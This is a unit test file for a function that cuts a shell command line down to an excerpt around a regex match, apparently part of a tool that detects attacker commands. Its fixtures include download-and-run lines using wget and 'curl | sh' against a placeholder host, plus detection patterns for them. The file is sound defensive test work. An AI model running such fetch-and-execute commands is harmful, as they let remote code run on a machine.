// SPDX-License-Identifier: AGPL-3.0-or-later
import { compilePattern } from '@ttp/ttp-core';
import { excerpt } from './excerpt';

const shown = (line: string, pattern: string, room: number) => {
  const compiled = compilePattern(pattern);
  return excerpt(line, (text) => compiled.test(text), room);
};

describe('excerpt', () => {
  it('is the whole line where that fits', () => expect(shown('cd /tmp; wget x', 'wget', 15)).toBe('cd /tmp; wget x'));

  it.each([
    ['cd /tmp; wget http://192.0.2.1/x; sh x', '\\bwget\\b', 30, '…wget http://192.0.2.1/x; sh x'],
    ['cd /tmp; wget http://192.0.2.1/x; sh x', '\\bwget\\b', 20, '…wget http://192.0.…'],
    ['wget http://192.0.2.1/x && sh x', '\\bwget\\b', 20, 'wget http://192.0.2…'],
    ['uname -a\nid\ncat /proc/cpuinfo', '\\bid\\b', 12, '…id\ncat /pr…'],
    ['echo a; curl -s x | sh; echo b', 'curl[^;]*\\|\\s*sh\\b', 20, '…curl -s x | sh; ec…'],
    ['echo a; curl -s x | sh', '\\|\\s*sh$', 12, '…l -s x | sh'],
    ['apt-get install -y the made-up nmap package of ours', '\\bnmap\\b', 20, '…nmap package of ou…'],
  ])('of %j with /%s/ in %d characters is %j', (line, pattern, room, expected) => expect(shown(line, pattern, room)).toBe(expected));

  it('is the beginning where the pattern occurs nowhere, as in a text that was cut', () => {
    expect(shown('uname -a; uptime', 'nothing', 10)).toBe('uname -a;…');
  });

  it('is found with few matches in a line of many commands', () => {
    let matches = 0;
    const text = excerpt(`${'x;'.repeat(2_000)}id;${'x;'.repeat(2_000)}`, (part) => {
      matches += 1;
      return part.includes('id');
    }, 10);
    expect(text).toBe('…id;x;x;x…');
    expect(matches).toBeLessThan(40);
  });
});
